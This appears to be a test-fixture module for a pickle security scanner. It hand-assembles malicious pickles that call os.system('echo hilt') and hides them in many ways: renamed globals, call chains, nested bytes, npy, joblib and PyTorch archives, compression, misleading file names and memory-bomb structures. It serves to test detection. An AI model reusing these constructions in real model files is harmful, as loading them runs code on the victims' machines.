"""Pickles that do harm when they are loaded, written by hand, opcode by opcode. The harm is `echo hilt`.

Nothing here is ever loaded. Each sample says which check must find it, how bad it is, and words that must be said.
"""

from __future__ import annotations

import bz2
import gzip
import lzma
import pickle
import struct
import zlib
from dataclasses import dataclass

from attacks.archives import Part, torch_zip, zip_of
from hilt.core.finding import Severity


@dataclass(frozen=True, slots=True, kw_only=True)
class Sample:
    id: str
    data: bytes
    words: tuple[str, ...]
    check: str = "pickle-code"
    severity: Severity = Severity.CRITICAL
    name: str = "model.pkl"


COMMAND = "echo hilt"
SAID = ("os.system('echo hilt')",)


def text(value: str) -> bytes:
    """A string as protocol 4 writes it."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def long_bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def named(module: str, name: str) -> bytes:
    """A global, as protocols 0 to 3 write it."""
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    """A global, as protocol 4 writes it."""
    return text(module) + text(name) + b"\x93"


def nested(data: bytes, times: int) -> bytes:
    """A pickle of a string of bytes that is a pickle of a string of bytes ..."""
    for _ in range(times):
        data = p(4, long_bytes(data))
    return data


def called(callable_: bytes, *args: bytes) -> bytes:
    return callable_ + b"(" + b"".join(args) + b"tR"


def p(protocol: int, body: bytes, end: bytes = b".") -> bytes:
    header = bytes([0x80, protocol]) if protocol >= 2 else b""
    return header + body + end


PAYLOAD = called(named("os", "system"), text(COMMAND))
HONEST = pickle.dumps({"weights": [1.0, 2.0]}, 4)
MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
LEGACY = MAGIC + pickle.dumps(1001, 2) + pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2)


def framed(body: bytes, size: int | None = None) -> bytes:
    """A frame around opcodes, which says that it is as long as they are or something else."""
    return b"\x95" + struct.pack("<Q", len(body) if size is None else size) + body


OF_TORCH = p(2, b"(" + text("storage") + named("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x01NtQ")
BOOSTER = named("xgboost.core", "Booster")
PIPELINE = named("sklearn.pipeline", "Pipeline") + b")\x81"
WRAPPER = named("joblib.numpy_pickle", "NDArrayWrapper") + b")\x81"
LINES_OF_A_FILE = (
    named("gensim.models.word2vec", "LineSentence") + b")\x81}" + text("source") + text("/etc/hilt") + b"sb"
)


def npy(payload: bytes, descr: str = "'|O'") -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def joblib_array(after: bytes, raw: bytes, *, aligned: int | None = None) -> bytes:
    """A wrapper of joblib whose array bytes are `raw`, and what its pickle does after it.

    With `aligned`, so many of them are the padding before the array.
    """
    padding = aligned or 0
    size = len(raw) - padding
    dtype = called(named("numpy", "dtype"), text("u1"), b"\x89", b"\x88")
    wrapper = named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    state = b"}(" + text("shape") + b"K" + bytes([size]) + b"\x85" + text("dtype") + dtype
    state += text("order") + text("C")
    if aligned is not None:
        state += text("numpy_array_alignment_bytes") + b"K\x10"
        raw = bytes([padding]) + raw
    state += b"u"
    return b"\x80\x04]" + wrapper + state + b"b" + raw + b"a" + after + b"."


def lz4_frame(data: bytes) -> bytes:
    import lz4.frame

    return bytes(lz4.frame.compress(data))


def _code(
    id_: str, data: bytes, *words: str, severity: Severity = Severity.CRITICAL, name: str = "model.pkl"
) -> Sample:
    return Sample(id=id_, data=data, words=words or SAID, severity=severity, name=name)


def _hidden(id_: str, data: bytes, *words: str, severity: Severity = Severity.HIGH, name: str = "model.pkl") -> Sample:
    return Sample(id=id_, data=data, words=words, check="pickle-hidden", severity=severity, name=name)


def _unknown(id_: str, data: bytes, *words: str, severity: Severity = Severity.MEDIUM) -> Sample:
    return Sample(id=id_, data=data, words=words, check="pickle-unknown-call", severity=severity)


ROADS = (
    _code("reduce-protocol-0", b"cos\nsystem\n(S'echo hilt'\ntR."),
    _code("reduce-protocol-0-unicode", b"cos\nsystem\n(Vecho hilt\ntR."),
    _code("reduce-protocol-1", p(1, b"cos\nsystem\n(U\x09echo hilttR")),
    *(_code(f"reduce-protocol-{n}", p(n, PAYLOAD)) for n in (2, 3, 4, 5)),
    _code("stack-global", p(4, called(stacked("os", "system"), text(COMMAND)))),
    _code("stack-global-through-memo", p(4, text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93" + text(COMMAND) + b"\x85R")),
    _code("inst", b"(S'echo hilt'\nios\nsystem\n."),
    _code("obj", p(1, b"(cos\nsystem\nU\x09echo hilto")),
    _code("obj-then-pop", p(1, b"(cos\nsystem\nU\x09echo hilto0N")),
    _code("newobj", p(2, named("subprocess", "Popen") + text(COMMAND) + b"\x85\x81"), "subprocess.Popen('echo hilt')"),
    _code("newobj-ex", p(4, stacked("subprocess", "Popen") + b")}" + text("args") + text(COMMAND) + b"s\x92"), "subprocess.Popen", "echo hilt"),
    _code("build-on-a-function", p(2, named("numpy", "prod") + b"}" + text("__code__") + b"Nsb"), "changes numpy.prod"),
    _code("setitem-on-a-global", p(2, named("os", "environ") + text("PATH") + text("/x") + b"s"), "changes os.environ"),
    _code("extension-registry", p(2, called(named("copyreg", "add_extension"), text("os"), text("system"), b"K\x01") + b"0\x82\x01" + text(COMMAND) + b"\x85R"), "copyreg.add_extension('os', 'system', 1)"),
)  # fmt: skip

NAMES = (
    _code("dotted", p(4, called(stacked("torch._utils", "os.system"), text(COMMAND))), *SAID, "torch._utils.os.system"),
    _code("dotted-attribute-of-eval", p(4, called(stacked("builtins", "eval.__call__"), text("1"))), "builtins.eval('1')"),
    _code("dotted-underscore", p(4, called(stacked("random", "_os.system"), text(COMMAND))), *SAID),
    _code("dotted-into-the-inside", p(4, called(stacked("builtins", "print.__class__.__base__.__subclasses__"))), "__subclasses__"),
    _code("python-2-eval", b"c__builtin__\neval\n(S'1'\ntR.", "builtins.eval('1')"),
    _code("python-2-apply", b"c__builtin__\napply\n(cos\nsystem\n(S'echo hilt'\nttR.", "builtins.apply"),
    _code("python-2-commands", b"ccommands\ngetoutput\n(S'echo hilt'\ntR.", "subprocess.getoutput('echo hilt')", "commands.getoutput"),
    _code("posix", b"cposix\nsystem\n(S'echo hilt'\ntR."),
    _code("nt", b"cnt\nsystem\n(S'echo hilt'\ntR."),
    _code("private-io", p(2, called(named("_io", "FileIO"), text("/tmp/hilt"), text("w"))), "io.FileIO('/tmp/hilt', 'w')"),
    _code("nested-unpickling", p(2, called(named("_pickle", "loads"), b"C\x02N.")), "pickle.loads(b'N.')"),
    _code("network", p(2, called(named("urllib.request", "urlopen"), text("http://hilt.invalid"))), "urllib.request.urlopen('http://hilt.invalid')", "network"),
    _code("native", p(2, called(named("ctypes", "CDLL"), text("x.so"))), "ctypes.CDLL('x.so')"),
    _code("idle", p(2, called(named("idlelib.calltip", "get_entity"), text("1"))), "idlelib.calltip.get_entity('1')"),
    _code("named-not-called", p(2, named("os", "system")), "looks up os.system", severity=Severity.HIGH),
    _code("named-in-a-default", p(2, called(named("collections", "defaultdict"), named("os", "system"))), "looks up os.system", severity=Severity.HIGH),
)  # fmt: skip

CHAINS = (
    _code("partial", p(2, called(called(named("functools", "partial"), named("os", "system")), text(COMMAND)))),
    _code("partial-of-partial", p(2, called(called(named("functools", "partial"), called(named("functools", "partial"), named("os", "system"))), text(COMMAND)))),
    _code("partial-by-state", p(2, called(named("functools", "partial"), named("builtins", "len")) + b"(" + named("os", "system") + text(COMMAND) + b"\x85}Ntb)R")),
    _code("attrgetter", p(2, called(called(called(named("operator", "attrgetter"), text("system")), called(named("importlib", "import_module"), text("os"))), text(COMMAND)))),
    _code("getattr-of-an-import", p(2, called(called(named("builtins", "getattr"), called(named("builtins", "__import__"), text("os")), text("system")), text(COMMAND)))),
    _code("methodcaller", p(2, called(called(named("operator", "methodcaller"), text("system"), text(COMMAND)), called(named("importlib", "import_module"), text("os"))))),
    _code("map-and-list", p(2, called(named("builtins", "list"), called(named("builtins", "map"), named("os", "system"), text(COMMAND) + b"\x85")))),
    _code("name-concatenated", p(4, called(named("operator", "add"), text("o"), text("s")) + text("system") + b"\x93" + text(COMMAND) + b"\x85R")),
    _code("name-joined", p(4, text("os") + called(stacked("builtins", "str.join"), text(""), text("sys") + text("tem") + b"\x86") + b"\x93" + text(COMMAND) + b"\x85R")),
    _unknown("name-computed", p(4, text("os") + called(stacked("secret", "name")) + b"\x93)R"), "computes", severity=Severity.HIGH),
    _unknown("unknown-class", p(4, stacked("acme.models", "Model") + b")\x81"), "acme.models.Model()"),
    _unknown("unknown-import", p(4, stacked("acme.models", "CONSTANT")), "imports acme.models.CONSTANT"),
    _unknown("init-of-a-class-safe-to-fill", p(2, called(named("xgboost.core", "Booster"), text("/etc/hilt"))), "xgboost.core.Booster('/etc/hilt')"),
    _unknown("init-through-reconstructor", p(2, called(named("copyreg", "_reconstructor"), *[named("gensim.models.word2vec", "Word2Vec")] * 2, text("/etc/hilt"))), "Word2Vec", "/etc/hilt"),
    _unknown("init-through-a-generator", p(2, called(named("numpy.random._pickle", "__randomstate_ctor"), text("/etc/hilt"), named("xgboost.core", "Booster"))), "__randomstate_ctor('/etc/hilt', xgboost.core.Booster)"),
    *(_unknown(f"gone-over-by-{one}", p(2, called(named(*one.rsplit(".", 1)), LINES_OF_A_FILE)), f"{one}(gensim.models.word2vec.LineSentence()") for one in ("builtins.list", "builtins.bytes", "collections.Counter", "torch.Size", "pandas.DataFrame")),
    _unknown("gone-over-as-a-pair", p(2, called(named("builtins", "dict"), b"](" + PIPELINE + b"e")), "builtins.dict"),
    _unknown("turned-into-text", p(2, called(named("builtins", "str"), PIPELINE)), "builtins.str(sklearn.pipeline.Pipeline()"),
    _unknown("append-of-its-own", p(2, PIPELINE + b"}" + text("append") + BOOSTER + b"sb" + text("/etc/hilt") + b"a"), "sklearn.pipeline.Pipeline.append"),
    _unknown("extend-of-its-own", p(2, called(named("collections", "OrderedDict")) + b"}" + text("extend") + BOOSTER + b"sb(" + text("/etc/hilt") + b"e"), "collections.OrderedDict.append"),
    _unknown("state-that-is-an-object", p(2, PIPELINE + PIPELINE + b"b"), "sklearn.base.BaseEstimator.__setstate__"),
    _unknown("init-through-the-base-of-another", p(2, called(named("copyreg", "_reconstructor"), named("argparse", "Namespace"), BOOSTER, text("/etc/hilt"))), "xgboost.core.Booster", "/etc/hilt"),
    _unknown("new-of-an-object", p(2, called(named("copyreg", "__newobj__"), PIPELINE, text("/etc/hilt"))), "copyreg.__newobj__(sklearn.pipeline.Pipeline()"),
    _unknown("new-of-an-object-in-cython", p(2, called(named("sklearn.neighbors._kd_tree", "newObj"), PIPELINE)), "newObj(sklearn.pipeline.Pipeline()"),
    _unknown("init-through-partial", p(2, called(named("functools", "partial"), BOOSTER, text("/etc/hilt"))), "functools.partial(xgboost.core.Booster"),
    _code("init-through-a-tensor", p(2, called(named("torch._tensor", "_rebuild_from_type_v2"), named("copyreg", "_reconstructor"), named("torch", "Tensor"), BOOSTER * 2 + text("/etc/hilt") + b"\x87", b"}")), "_rebuild_from_type_v2(copyreg._reconstructor"),
    _unknown("generator-from-an-object", p(2, called(named("numpy.random._pickle", "__randomstate_ctor"), PIPELINE)), "__randomstate_ctor"),
    _code("array-file-in-slots", p(2, WRAPPER + b"N}" + text("filename") + text("/etc/hilt") + b"s\x86b"), "NDArrayWrapper"),
    _code("array-file-among-many", p(2, WRAPPER + b"}(" + text("filename") + text("x.npy") + b"".join(b"K" + bytes([n]) + b"N" for n in range(40)) + text("filename") + text("/etc/hilt") + b"ub"), "NDArrayWrapper"),
    _unknown("dotted-name-in-a-family", p(4, stacked("sklearn.svm", "SVC.fit") + b")R"), "sklearn.svm.SVC.fit()"),
)  # fmt: skip

PLACES = (
    _code("second-stream", HONEST + p(2, PAYLOAD)),
    _code("seventh-stream", HONEST * 6 + p(2, PAYLOAD)),
    _code("behind-junk", HONEST + b"\xff" * 1000 + p(2, PAYLOAD)),
    _hidden("junk-between", HONEST + b"\xff" * 1000 + HONEST, "1000 bytes behind it, before the next pickle"),
    _hidden("trailing-bytes", HONEST + b"\x7fELF" + b"\0" * 60, "64 bytes behind its end", severity=Severity.MEDIUM),
    _code("broken-behind-the-call", p(2, PAYLOAD, b"\xff\xff\xff")),
    _hidden("broken-stream", p(2, PAYLOAD, b"\xff\xff\xff"), "byte 0xff is no pickle opcode"),
    _hidden("stack-underflow", p(2, b"N0" + b"0."), "takes more from its stack"),
    _hidden("memo-read-before-write", p(2, b"N0N0h\x07"), "memo entry 7 is read before it is written"),
    _hidden("extension-without-registry", p(2, b"\x82\x05"), "entry 5 of the process's extension registry"),
    _hidden("nested-in-bytes", p(4, long_bytes(p(2, PAYLOAD))), "a pickle stands in a string of bytes", "os.system('echo hilt')"),
    _hidden("nested-in-long-bytes", p(4, long_bytes(p(2, b"(" + b"NNNNNNNN" * 500 + b"1" + PAYLOAD))), "os.system('echo hilt')"),
    _hidden("nested-deeper-than-is-followed", nested(p(4, PAYLOAD), 40), "a pickle stands in a string of bytes", severity=Severity.MEDIUM),
    _hidden("loaded-and-broken", p(2, called(named("torch.storage", "_load_from_bytes"), long_bytes(p(2, b"N0N0h\x07")))), "loads a pickle from bytes that cannot be followed"),
    _hidden("loaded-and-odd", p(2, called(named("torch.storage", "_load_from_bytes"), long_bytes(p(2, b"\x82\x05")))), "entry 5 of the process's extension registry"),
    _hidden("nested-twice", p(4, long_bytes(p(4, long_bytes(p(2, PAYLOAD))))), "a pickle stands in a string of bytes"),
    _hidden("frame-too-long", b"\x80\x04\x95\xff\0\0\0\0\0\0\0N." + b"\0" * 300, "a frame says that it ends elsewhere"),
    _code("torch-storage-bytes", p(2, called(named("torch.storage", "_load_from_bytes"), long_bytes(LEGACY + p(2, PAYLOAD) + pickle.dumps([], 2))))),
    *(
        _code(f"torch-storage-bytes-{one}", p(2, called(named("torch.storage", "_load_from_bytes"), long_bytes(zip_))))
        for one, zip_ in {"zip": torch_zip(pickle=p(2, PAYLOAD)), "zip-behind-junk": torch_zip(pickle=HONEST + b"\xff" * 9 + p(2, PAYLOAD))}.items()
    ),
    *(
        _hidden(f"torch-storage-bytes-{one}", p(2, called(named("torch.storage", "_load_from_bytes"), long_bytes(data))), words)
        for one, data, words in (
            ("zip-with-more", torch_zip(Part(name="model/evil.so")), "PyTorch writes no member like 'model/evil.so'"),
            ("zip-too-short", torch_zip(storage=b"\0" * 60), "storage 'data/0' has 60 bytes, and 64 are asked for"),
            ("zip-unasked", torch_zip(Part(name="model/data/1")), "are asked for by no pickle"),
            ("zip-with-a-prefix", b"PK" + torch_zip(), "stand before the archive"),
            ("legacy-with-more", LEGACY + pickle.dumps({}, 2) + pickle.dumps([], 2) + b"hilt", "bytes of which 4 belong to nothing"),
            ("legacy-unlisted", LEGACY + OF_TORCH + pickle.dumps([], 2), "storage '0' is asked for and has no bytes"),
        )
    ),
    _code("padded-with-a-million-opcodes", p(2, b"(" + b"K\x01" * 1_000_000 + b"1" + PAYLOAD)),
    _code("behind-a-long-literal", p(4, long_bytes(b"\0" * 5_000_000) + b"0" + PAYLOAD)),
    _code("renamed", p(4, PAYLOAD), name="model.safetensors"),
    _code("behind-many-texts", b"Vhilt\n0" * 200_000 + b"cos\nsystem\n(Vecho hilt\ntR.", name="vocabulary.txt"),
    _code("without-a-suffix", b"cos\nsystem\n(S'echo hilt'\ntR.", name="weights"),
    _code("as-text", b"cos\nsystem\n(S'echo hilt'\ntR.", name="notes.txt"),
)  # fmt: skip

CARRIED = (
    _code("torch-legacy-object", LEGACY + p(2, PAYLOAD) + pickle.dumps([], 2), name="model.pt"),
    _code("torch-legacy-system-information", MAGIC + pickle.dumps(1001, 2) + p(2, PAYLOAD), name="model.pt"),
    _code("torch-legacy-keys", LEGACY + pickle.dumps({}, 2) + p(2, PAYLOAD), name="model.bin"),
    _code("torch-legacy-behind", LEGACY + pickle.dumps({}, 2) + pickle.dumps([], 2) + p(2, PAYLOAD), name="model.bin"),
    _code("npy", npy(p(3, PAYLOAD)), name="array.npy"),
    _code("npy-objects-by-their-other-name", npy(p(3, PAYLOAD), "'object'"), name="array.npy"),
    _code("npy-objects-in-a-list-of-types", npy(p(3, PAYLOAD), "'f4,O'"), name="array.npy"),
    _code("npy-objects-in-a-field-in-a-field", npy(p(3, PAYLOAD), "[('a', [('b', 'O', (2,))])]"), name="array.npy"),
    _code("npy-behind-the-array", npy(b"\0" * 4, "'<f4'") + p(2, PAYLOAD), name="array.npy"),
    _code("npy-far-behind-the-array", npy(b"\0" * 4, "'<f4'") + b"\xff" * 5000 + p(4, PAYLOAD), name="array.npy"),
    _hidden("npy-with-more", npy(b"\0" * 4, "'<f4'") + b"hilt", "4 bytes behind what loaders read", severity=Severity.MEDIUM, name="array.npy"),
    _hidden("npz-with-more", zip_of(Part(name="a.npy", data=npy(b"\0" * 4, "'<f4'") + b"hilt")), "4 bytes behind what loaders read", severity=Severity.MEDIUM, name="arrays.npz"),
    _code("npz-behind-the-array", zip_of(Part(name="a.npy", data=npy(b"\0" * 4, "'<f4'") + p(2, PAYLOAD))), name="arrays.npz"),
    *(
        _hidden(f"joblib-behind-{one}", packed(HONEST) + b"hilt", "4 bytes behind what loaders read", severity=Severity.MEDIUM, name="model.joblib")
        for one, packed in {"zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "lz4": lz4_frame}.items()
    ),
    _hidden("joblib-padding", joblib_array(b"", b"hilt" + b"\0" * 8, aligned=4), "the padding before an array holds something", name="model.joblib"),
    _code("joblib-plain", joblib_array(PAYLOAD + b"0", b"\0" * 8), name="model.joblib"),
    _code("joblib-array-bytes-are-opcodes", joblib_array(b"", b"0" + PAYLOAD + b"a."), name="model.joblib"),
    _hidden("joblib-misspelt", joblib_array(b"I 1\na", b"\0" * 8), "INT is followed by b' 1'", name="model.joblib"),
    _hidden("joblib-memo-overwritten", joblib_array(b"K\1q\1K\2q\1" + b"00", b"\0" * 8), "memo entry 1 is written again", name="model.joblib"),
    _hidden("joblib-frame-across-an-opcode", joblib_array(framed(b"(K\1K\1t", 2) + b"0", b"\0" * 8), "a frame ends inside an opcode", name="model.joblib"),
    _hidden("joblib-frame-around-an-array", b"\x80\x04" + framed(b"", 300) + joblib_array(b"", b"\0" * 8)[2:], "array bytes stand inside a frame", name="model.joblib"),
    _code("joblib-zlib", zlib.compress(joblib_array(PAYLOAD + b"0", b"\0" * 8)), name="model.joblib"),
    _code("joblib-gzip", gzip.compress(p(3, PAYLOAD), mtime=0), name="model.pkl.gz"),
    _code("joblib-bz2", bz2.compress(p(3, PAYLOAD)), name="model.joblib"),
    _code("joblib-xz", lzma.compress(p(3, PAYLOAD)), name="model.joblib"),
    _code("joblib-lzma", lzma.compress(p(3, PAYLOAD), lzma.FORMAT_ALONE), name="model.joblib"),
    _code("joblib-lz4", lz4_frame(p(3, PAYLOAD)), name="model.joblib"),
    _code("joblib-zfile", b"ZF" + hex(len(p(3, PAYLOAD))).ljust(19).encode() + zlib.compress(p(3, PAYLOAD)), name="model.pkl"),
)  # fmt: skip


def laughs(empty: bytes, fill: bytes, levels: int, item: bytes = b"") -> bytes:
    """Containers that hold the one before ten times: small to load, and endless for whoever walks them."""
    body = b"N"
    for level in range(levels):
        inner = b"h" + bytes([level - 1]) if level else b"K\x01"
        body += (
            empty
            + b"q"
            + bytes([level])
            + b"("
            + b"".join((item and b"K" + bytes([n])) + inner for n in range(10))
            + fill
        )
    return p(2, body.replace(b"N", b"(", 1) + b"l")


def backwards(levels: int) -> bytes:
    """The same, filled from the outermost inwards, when the outer ones hold what is still empty."""
    made = b"".join(b"]q" + bytes([level]) + b"0" for level in range(levels + 1))
    filled = b"".join(
        b"h" + bytes([level]) + b"(" + b"h" + bytes([level + 1]) + b"h" + bytes([level + 1]) + b"e0"
        for level in range(levels)
    )
    return p(2, made + filled + b"h\0")


def states(levels: int) -> bytes:
    """The same in objects whose states hold the object before twice."""
    body = b"("
    for level in range(levels):
        inner = b"h" + bytes([level - 1]) if level else b"N"
        body += OBJECT + b"q" + bytes([level]) + b"}(" + text("a") + inner + text("b") + inner + b"ub"
    return p(2, body + b"l")


def doubled(levels: int) -> bytes:
    """The same in tuples that are doubled on the stack."""
    return p(2, b"N\x85" + b"2\x86" * levels)


OBJECT = named("argparse", "Namespace") + b")\x81"
LAUGHS = {
    "lists": laughs(b"]", b"e", 12),
    "dicts": laughs(b"}", b"u", 12, b"key"),
    "sets": laughs(b"\x8f", b"\x90", 12),
    "lists-backwards": backwards(64),
    "states": states(40),
    "tuples": doubled(60),
}
DISPUTED = (
    *(
        _hidden(f"misspelt-{one}", p(2, b"]" + spelt + b"a"), "as no pickler writes it")
        for one, spelt in {
            "bool-with-a-blank": b"I 1\n", "bool-with-a-sign": b"I+1\n", "octal": b"I010\n", "hexadecimal": b"I0x10\n",
            "underscore": b"I1_0\n", "carriage-return": b"I1\r\n", "long-without-l": b"L10\n", "long-octal": b"L017L\n",
            "float-underscore": b"F1_0.0\n", "float-blank": b"F 1.0\n", "float-infinity": b"FInfinity\n",
            "string-octal": b"S'\\157s'\n", "string-hexadecimal": b"S'\\x6fs'\n", "string-other-quote": b'S"os"\n',
            "string-blank-behind": b"S'os' \n", "unicode-escaped-letter": b"V\\u006fs\n", "unicode-long-escape": b"V\\U0000006fs\n",
            "string-line-without-quotes": b"Sos\n",
        }.items()
    ),
    *(
        _hidden(f"misspelt-memo-{one}", p(2, b"I5\np1\n0" + spelt), "GET is followed by")
        for one, spelt in {"zeros": b"g00001\n", "blanks": b"g 1\n", "underscore": b"g0_1\n", "zero-byte": b"g1\0x\n"}.items()
    ),
    _hidden("misspelt-put", p(2, b"I5\np1_0\n"), "PUT is followed by b'1_0'"),
    _hidden("negative-put", p(2, b"I5\np-1\n"), "PUT is followed by b'-1'"),
    _hidden("memo-entry-overwritten", p(4, text("os") + b"q\x00" + text("re") + b"q\x00\x86h\x00\x86"), "memo entry 0 is written again"),
    _hidden("sparse-memo-entry-overwritten", p(2, b"K\x01q\x05K\x02q\x05\x86"), "memo entry 5 is written again"),
    _hidden("memoize-after-sparse-put", p(4, b"K\x01q\x05\x94"), "a MEMOIZE follows a PUT that left entries out"),
    _hidden("memo-of-64-gigabytes", p(2, b"K\x01r\xff\xff\xff\xff"), "loaders run out of memory"),
    _hidden("protocol-in-the-middle", p(2, b"\x80\x04N"), "the protocol becomes 4 in the middle"),
    _hidden("frame-across-an-opcode", p(4, framed(b"(K\x01" + text("hilt") + b"t", 5)), "a frame ends inside an opcode"),
    _hidden("frame-across-a-number", p(4, framed(b"(J\0\0\0\0t", 4)), "a frame ends inside an opcode"),
    _hidden("frame-across-a-long-literal", p(4, framed(long_bytes(b"x" * 5000), 100)), "a frame ends inside an opcode"),
    _hidden("frame-in-a-frame", p(4, framed(b"N0" + framed(b"N"))), "a frame says that it ends elsewhere"),
    _hidden("values-left-behind", p(2, b"K\x01K\x02"), "1 values and marks lie below the one that it returns"),
    _hidden("mark-left-behind", p(2, b"(K\x02"), "1 values and marks lie below"),
    _hidden("odd-number-of-items", p(2, b"}(K\x01K\x02K\x03u"), "3 keys and values are no pairs"),
    _hidden("name-with-a-carriage-return", p(2, b"cdatetime\r\ndate\r\n"), "'date\\r' in 'datetime\\r', which is no name"),
    _hidden("name-with-a-zero-byte", p(2, b"cdatetime\ndate\0x\n"), "which is no name"),
    _hidden("name-in-another-script", p(4, text("d\u0430tetime") + text("date") + b"\x93"), "which is no name"),
    _hidden("name-of-python-2-where-none-translates", p(3, named("__builtin__", "set")), "names __builtin__.set of Python 2 in protocol 3"),
    _hidden("arguments-in-a-list", p(2, named("datetime", "date") + b"](K\x01K\x01K\x01eR"), "for arguments, which is no tuple"),
    _hidden("arguments-of-new-as-text", p(2, named("datetime", "date") + text("hilt") + b"\x81"), "for arguments, which is no tuple"),
    _hidden("state-with-a-method", p(2, OBJECT + b"}" + text("__setstate__") + named("datetime", "date") + b"sb" + text("x") + b"b"), "puts __setstate__ on an object"),
    _hidden("state-with-a-class-in-slots", p(2, OBJECT + b"N}" + text("__class__") + named("datetime", "date") + b"s\x86b"), "puts __class__ on an object"),
    _hidden("state-with-a-method-among-many", p(2, OBJECT + b"}(" + b"".join(text(f"a{n}") + b"N" for n in range(40)) + text("__setstate__") + named("datetime", "date") + b"ub"), "fills an object with 41 attributes where the pickle names __setstate__"),
    _hidden("state-of-slots-without-a-name", p(2, OBJECT + b"N}K\x01K\x01s\x86b"), "which is no name"),
    _hidden("state-that-is-nothing", p(2, OBJECT + b"K\x00b"), "gives 0 as state"),
    _hidden("state-of-a-list", p(2, b"]}b"), "gives a state to"),
    _hidden("buffer-of-the-loader", p(5, b"\x97"), "asks for a buffer that the loader must bring", severity=Severity.MEDIUM),
    *(_hidden(f"laughs-in-{one}", data, "values refer to each other so that") for one, data in LAUGHS.items()),
    _hidden("laughs-of-a-hundred-million", laughs(b"]", b"e", 8), "meets 123,456,789", severity=Severity.MEDIUM),
)  # fmt: skip

SAMPLES = (*ROADS, *NAMES, *CHAINS, *PLACES, *DISPUTED, *CARRIED)
